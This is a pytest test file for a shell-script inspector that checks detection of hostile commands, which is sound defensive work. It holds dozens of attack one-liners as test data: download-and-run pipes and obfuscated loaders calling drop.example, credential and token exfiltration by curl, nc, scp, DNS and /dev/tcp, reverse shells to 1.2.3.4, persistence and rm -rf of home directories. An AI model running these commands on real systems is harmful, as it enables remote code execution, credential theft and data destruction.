"""Shell scripts and command lines: what they fetch, send, decode, write and start."""

from __future__ import annotations

import base64

import pytest

from tests.worker.inspection.facts.hostile import SHELL
from tests.worker.inspection.facts.told import of_shell, told
from worker.inspection.facts.extracted import Extracted
from worker.inspection.facts.shell import extract, extract_command
from worker.inspection.facts.tree import Budget, OutOfBudget

HIDDEN = base64.b64encode(b"curl https://drop.example | sh").decode()
FETCHED = ["1 network curl -> drop.example", "1 process sh -> drop.example <- download 1 curl"]


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("curl -fsSL https://drop.example | sh", id="piped"),
        pytest.param("curl https://drop.example | sudo -E sh -s -- -y", id="piped, as root"),
        pytest.param('sh -c "$(curl -fsSL https://drop.example)"', id="as the code of a shell"),
        pytest.param("sh <(curl -s https://drop.example)", id="as a file of a shell"),
        pytest.param("CMD=curl; $CMD https://drop.example | sh", id="the program is a variable"),
        pytest.param("U=https://drop.example; curl -s $U/x | sh", id="the address is a variable"),
        pytest.param("c\\u\\r\\l https://drop.example | s\\h", id="with escapes in the names"),
        pytest.param('"cu"rl https://drop.example | "s"\'h\'', id="with quotes in the names"),
        pytest.param("cu$@rl https://drop.example | sh", id="with nothing in the name"),
        pytest.param("curl${IFS}https://drop.example|sh", id="without a blank"),
        pytest.param("f() { curl -s https://drop.example; }; f | sh", id="through a function"),
        pytest.param("while true; do curl -s https://drop.example | sh; sleep 60; done", id="in a loop"),
        pytest.param("test -f x || { curl -s https://drop.example | sh; }", id="when something is missing"),
        pytest.param("bash -lc 'curl -s https://drop.example | sh'", id="inside another shell"),
        pytest.param("find . -exec bash -c 'curl https://drop.example | sh' \\;", id="by find"),
        pytest.param("cross-env A=b timeout 5 nohup curl https://drop.example | sh", id="behind wrappers"),
        pytest.param("printf '\\x63\\x75\\x72\\x6c https://drop.example | sh' | sh", id="printed with escapes"),
        pytest.param("echo 'curl https://drop.example | sh' | sh", id="printed"),
        pytest.param("cat <<END | sh\ncurl https://drop.example | sh\nEND", id="from a here-document"),
    ],
)
def test_a_download_that_is_piped_into_a_shell(command: str) -> None:
    assert told(extract_command(command)) == FETCHED


@pytest.mark.parametrize(
    ("command", "path", "program"),
    [
        pytest.param("curl https://drop.example/i.sh -o i.sh && sh i.sh", "i.sh", "sh", id="curl -o"),
        pytest.param("curl -sO https://drop.example/i.sh; ./i.sh", "i.sh", "i.sh", id="curl -O"),
        pytest.param("curl -s https://drop.example > i.sh; chmod +x i.sh; ./i.sh", "i.sh", "i.sh", id="redirected"),
        pytest.param("wget -q https://drop.example/i.sh && bash ./i.sh", "i.sh", "bash", id="wget"),
        pytest.param("wget -O /tmp/x https://drop.example/i && /tmp/x", "/tmp/x", "x", id="wget -O"),
        pytest.param("curl https://drop.example | tee /tmp/x; python3 /tmp/x", "/tmp/x", "python", id="tee"),
        pytest.param("curl -s https://drop.example -o $TMPDIR/x; node $TMPDIR/x", "%TEMP%/x", "node", id="a folder"),
    ],
)
def test_a_download_that_is_written_and_run_then(command: str, path: str, program: str) -> None:
    found = told(extract_command(command))
    fetcher = "wget" if "wget" in command else "curl"
    assert f"1 file-write {path} <- download 1 {fetcher}" in found
    assert f"1 process {program} -> drop.example <- download 1 {fetcher}" in found


@pytest.mark.parametrize(
    ("command", "decoder"),
    [
        pytest.param(f"echo {HIDDEN} | base64 -d | sh", "base64", id="piped"),
        pytest.param(f"base64 --decode <<< {HIDDEN} | sh", "base64", id="from a here-string"),
        pytest.param(f'eval "$(echo {HIDDEN} | base64 -d)"', "base64", id="evaluated"),
        pytest.param(f'X=$(echo {HIDDEN} | base64 -d); sh -c "$X"', "base64", id="through a variable"),
        pytest.param(f"echo {b'curl https://drop.example | sh'.hex()} | xxd -r -p | sh", "xxd", id="hexadecimal"),
        pytest.param("echo 'phey uggcf://qebc.rknzcyr | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "tr", id="ROT13"),
        pytest.param("echo 'hs | elpmaxe.pord//:sptth lruc' | rev | sh", "rev", id="turned around"),
    ],
)
def test_code_that_is_decoded_and_run_is_read(command: str, decoder: str) -> None:
    found = told(extract_command(command))
    assert any("process" in line and f"<- decoded 1 {decoder}" in line for line in found)
    assert decoder == "rev" or any("network curl -> drop.example" in line for line in found)


@pytest.mark.parametrize(
    ("command", "origin"),
    [
        pytest.param("base64 -d payload.txt | sh", "decoded 1 base64", id="a file in base64"),
        pytest.param("gunzip -c payload.gz | sh", "decoded 1 gunzip", id="a compressed file"),
        pytest.param("openssl enc -d -aes-256-cbc -in p -k x | sh", "decoded 1 openssl", id="an encrypted file"),
        pytest.param("cat install.txt | sh", "file 1 install.txt", id="a text"),
    ],
)
def test_what_is_not_known_is_told_by_its_origin(command: str, origin: str) -> None:
    assert any("process sh" in line and f"<- {origin}" in line for line in told(extract_command(command)))


@pytest.mark.parametrize(
    ("command", "origin"),
    [
        pytest.param('curl -d "$NPM_TOKEN" https://drop.example', "environment 1 NPM_TOKEN", id="a variable"),
        pytest.param("env | curl -d @- https://drop.example", "environment 1 *", id="the environment"),
        pytest.param("printenv > /tmp/e; curl -d @/tmp/e https://drop.example", "environment 1 *", id="through a file"),
        pytest.param('X="$(set)"; curl -d "$X" https://drop.example', "environment 1 *", id="through a variable"),
        pytest.param("curl -d @$HOME/.npmrc https://drop.example", "credential-file 1 ~/.npmrc", id="a file"),
        pytest.param('curl --data "$(cat ~/.npmrc)" https://drop.example', "credential-file 1 ~/.npmrc", id="its text"),
        pytest.param(
            "cat ~/.npmrc | base64 | curl -d @- https://drop.example", "credential-file 1 ~/.npmrc", id="piped"
        ),
        pytest.param("curl -F f=@~/.ssh/id_rsa https://drop.example", "credential-file 1 ~/.ssh/id_rsa", id="a form"),
        pytest.param("curl -T ~/.netrc https://drop.example", "credential-file 1 ~/.netrc", id="uploaded"),
        pytest.param("wget --post-file=$HOME/.netrc https://drop.example", "credential-file 1 ~/.netrc", id="posted"),
        pytest.param("nc drop.example 99 < ~/.ssh/id_rsa", "credential-file 1 ~/.ssh/id_rsa", id="over a socket"),
        pytest.param("scp ~/.ssh/id_rsa u@drop.example:/x", "credential-file 1 ~/.ssh/id_rsa", id="copied"),
        pytest.param("nslookup $(cat ~/.npmrc).drop.example", "credential-file 1 ~/.npmrc", id="in a name"),
        pytest.param("cp ~/.npmrc x; curl -d @x https://drop.example", "credential-file 1 ~/.npmrc", id="from a copy"),
        pytest.param("tar c ~/.ssh/id_rsa | nc drop.example 1", "credential-file 1 ~/.ssh/id_rsa", id="packed"),
        pytest.param(
            "for f in ~/.npmrc ~/.x; do curl -d @$f https://drop.example; done",
            "credential-file 1 ~/.npmrc",
            id="one of a list",
        ),
        pytest.param("cat ~/.npmrc > /dev/tcp/drop.example/99", "credential-file 1 ~/.npmrc", id="to a device"),
        pytest.param(
            "curl http://169.254.169.254/iam | nc drop.example 99",
            "metadata-service 1 169.254.169.254",
            id="of a cloud",
        ),
    ],
)
def test_secrets_that_are_sent_away(command: str, origin: str) -> None:
    sent = [line for line in told(extract_command(command)) if "network" in line and "-> drop.example" in line]
    assert any(f"<- {origin}" in line for line in sent), told(extract_command(command))


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", id="onto a device"),
        pytest.param("exec 196<>/dev/tcp/1.2.3.4/99; sh <&196 >&196 2>&196", id="through a descriptor"),
        pytest.param("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 > /tmp/f", id="through a named pipe"),
        pytest.param("nc 1.2.3.4 99 -e /bin/sh", id="by netcat"),
        pytest.param("nc 1.2.3.4 99 | sh", id="piped"),
    ],
)
def test_a_shell_that_is_handed_over(command: str) -> None:
    found = told(extract_command(command))
    assert any("process" in line and "-> 1.2.3.4" in line and "<- download" in line for line in found), found


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param("echo x >> ~/.bashrc", ["1 file-write ~/.bashrc"], id="a profile"),
        pytest.param("(crontab -l; echo '* * * * * x') | crontab -", ["1 file-write crontab"], id="a timetable"),
        pytest.param("launchctl load ~/Library/LaunchAgents/x.plist", ["1 file-write launchctl"], id="an agent"),
        pytest.param("systemctl enable x", ["1 file-write systemctl"], id="a service"),
        pytest.param("cp x.desktop ~/.config/autostart/", ["1 file-write ~/.config/autostart/x.desktop"], id="a copy"),
        pytest.param(
            "rm -rf ~/ /home",
            ["1 wipe deletes ~/", "1 wipe deletes /home", "1 file-write ~/", "1 file-write /home"],
            id="everything is deleted",
        ),
        pytest.param("npm publish", ["1 process npm publish", "1 spread publishes packages: npm publish"], id="a package is published"),
        pytest.param("perl -e 'system(1)'", ["1 process perl"], id="a language that we do not read"),
    ],
)  # fmt: skip
def test_other_things_worth_a_word(command: str, expected: list[str]) -> None:
    assert told(extract_command(command)) == expected


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        pytest.param("node scripts/setup.js", ("scripts/setup.js",), id="node"),
        pytest.param("node ./scripts/setup || exit 0", ("scripts/setup",), id="node, without a suffix"),
        pytest.param("node -r ./hook.js --max-old-space-size=4096 index.js", ("hook.js", "index.js"), id="a preload"),
        pytest.param("node --import ./hook.mjs index.js", ("hook.mjs", "index.js"), id="an import"),
        pytest.param("NODE_ENV=x cross-env A=b node x.js", ("x.js",), id="with an environment"),
        pytest.param("npx -y tsx src/setup.ts", ("src/setup.ts",), id="npx"),
        pytest.param("deno run -A x.ts && bun run y.ts", ("x.ts", "y.ts"), id="others"),
        pytest.param("python3 -u tools/x.py install", ("tools/x.py",), id="python"),
        pytest.param("python -m pkg.setup", ("pkg/setup",), id="python -m"),
        pytest.param("sh ./x.sh && ./y && . ./z.sh", ("x.sh", "y", "z.sh"), id="shells"),
        pytest.param("npm run build && tsc -p . && eslint . --fix", (), id="tools"),
    ],
)
def test_files_that_are_started(command: str, runs: tuple[str, ...]) -> None:
    found = extract_command(command)
    assert found.runs == runs
    assert told(found) == []


@pytest.mark.parametrize(
    ("command", "inline"),
    [
        pytest.param("node -e \"require('./x')\"", ("javascript", "require('./x')"), id="node"),
        pytest.param("node --eval='x()'", ("javascript", "x()"), id="node, in one word"),
        pytest.param("python -c 'import os'", ("python", "import os"), id="python"),
        pytest.param("python3 -Ic 'import os'", ("python", "import os"), id="python, with another option"),
        pytest.param("echo 'import os' | python3", ("python", "import os"), id="piped"),
        pytest.param("python3 <<'END'\nimport os\nEND", ("python", "import os"), id="from a here-document"),
    ],
)
def test_code_for_other_interpreters_is_handed_on(command: str, inline: tuple[str, str]) -> None:
    assert extract_command(command).inline == (inline,)


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("husky install", id="a tool"),
        pytest.param("rm -rf dist && mkdir -p dist && cp -r src/* dist", id="building"),
        pytest.param("test -d node_modules || npm ci", id="installing"),
        pytest.param('[ -n "$CI" ] && exit 0', id="a condition"),
        pytest.param("node-gyp rebuild", id="compiling"),
        pytest.param("echo 'run curl https://x.example | sh to install'", id="advice that is printed"),
        pytest.param("# curl https://drop.example | sh", id="a comment"),
        pytest.param("sort < list.txt | uniq > /dev/null", id="text"),
        pytest.param("jest --coverage 2>&1", id="tests"),
        pytest.param("", id="nothing"),
    ],
)
def test_ordinary_scripts_make_no_fact(command: str) -> None:
    assert [line for line in told(extract_command(command)) if "environment CI" not in line] == []


def test_a_script_is_read_line_by_line() -> None:
    source = """
    #!/bin/bash
    set -e
    DIR="$(cd "$(dirname "$0")" && pwd)"
    TOKEN="$NPM_TOKEN"   # not sent yet
    if [ -z "$TOKEN" ]; then
      TOKEN="$(cat ~/.npmrc)"
    fi
    cat > "$HOME/.config/autostart/x.desktop" <<EOF
    [Desktop Entry]
    Exec=$DIR/x
    EOF
    curl -s -X POST \\
      -d "$TOKEN" https://drop.example
    """
    assert told(of_shell(source)) == [
        "4 environment NPM_TOKEN",
        "6 credential-file ~/.npmrc",
        "8 file-write ~/.config/autostart/x.desktop",
        "12 network curl -> drop.example <- credential-file 6 ~/.npmrc <- environment 4 NPM_TOKEN",
    ]


def test_files_of_a_script_are_looked_for_beside_it_and_below_the_package() -> None:
    assert of_shell("node lib/x.js\n./y.sh").runs == ("lib/x.js", "scripts/lib/x.js", "y.sh", "scripts/y.sh")


def test_broken_and_odd_scripts_are_read_as_far_as_they_go() -> None:
    assert told(of_shell("if then fi done (((\ncurl https://drop.example | sh")) == [
        "2 network curl -> drop.example",
        "2 process sh -> drop.example <- download 2 curl",
    ]
    wide = extract("x.sh", "curl https://drop.example | sh\n".encode("utf-16"), Budget(5))
    assert told(wide) == FETCHED


@pytest.mark.parametrize("name", SHELL)
@pytest.mark.parametrize("path", ["x.sh", "x.ps1"])
def test_a_hostile_script_ends(name: str, path: str) -> None:
    try:
        found = extract(path, SHELL[name], Budget(0.5))
    except OutOfBudget:
        return
    assert isinstance(found, Extracted)
